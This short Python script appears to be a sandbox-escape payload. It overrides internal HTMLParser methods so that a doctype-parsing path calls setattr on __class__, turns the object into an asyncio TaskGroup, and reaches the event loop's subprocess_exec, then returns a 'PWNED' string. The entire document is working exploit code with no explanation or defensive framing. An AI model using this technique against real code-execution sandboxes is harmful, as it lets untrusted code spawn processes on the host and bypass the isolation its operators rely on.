import asyncio
import html.parser


class Name(str):
    def __radd__(self, other):
        return "__setattr__"


class Duck(html.parser.HTMLParser):
    def _scan_name(self, i, declstartpos):
        return Name("entity"), "__class__"

    async def go(self):
        self._entered = False
        self._loop = None
        self.rawdata = "<!entity"
        try:
            self._parse_doctype_subset(0, asyncio.TaskGroup)
        except TypeError:
            pass
        await self.__aenter__()
        return self._loop


loop = asyncio.run(Duck().go())
return "PWNED " + repr(loop.subprocess_exec)
